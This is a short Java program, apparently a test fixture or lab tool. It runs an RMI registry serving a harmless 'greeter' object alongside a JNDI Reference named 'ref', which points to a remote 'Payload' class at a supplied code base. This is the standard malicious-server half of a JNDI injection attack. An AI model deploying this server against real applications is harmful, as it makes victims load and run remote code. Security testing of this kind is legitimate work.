// SPDX-License-Identifier: GPL-2.0-or-later
import com.sun.jndi.rmi.registry.ReferenceWrapper;
import java.rmi.Remote;
import java.rmi.RemoteException;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import java.rmi.server.UnicastRemoteObject;
import javax.naming.Reference;

/** An RMI registry with a reference ("ref", to a class elsewhere) and a plain remote object ("greeter").
 *  Arguments: host, port, code base, port of the object. */
public class Registrar {
    public interface Greeter extends Remote {
        String greet(String name) throws RemoteException;
    }

    static class GreeterObject extends UnicastRemoteObject implements Greeter {
        GreeterObject(int port) throws RemoteException {
            super(port);
        }

        public String greet(String name) {
            return "hello " + name;
        }
    }

    /** The benign client. Arguments: host, port. */
    public static class Caller {
        public static void main(String[] args) throws Exception {
            Registry registry = LocateRegistry.getRegistry(args[0], Integer.parseInt(args[1]));
            System.out.println(((Greeter) registry.lookup("greeter")).greet("bob"));
            System.exit(0);
        }
    }

    public static void main(String[] args) throws Exception {
        System.setProperty("java.rmi.server.hostname", args[0]);
        Registry registry = LocateRegistry.createRegistry(Integer.parseInt(args[1]));
        registry.rebind("ref", new ReferenceWrapper(new Reference("Payload", "Payload", args[2])));
        registry.rebind("greeter", new GreeterObject(Integer.parseInt(args[3])));
        Thread.sleep(Long.MAX_VALUE);
    }
}
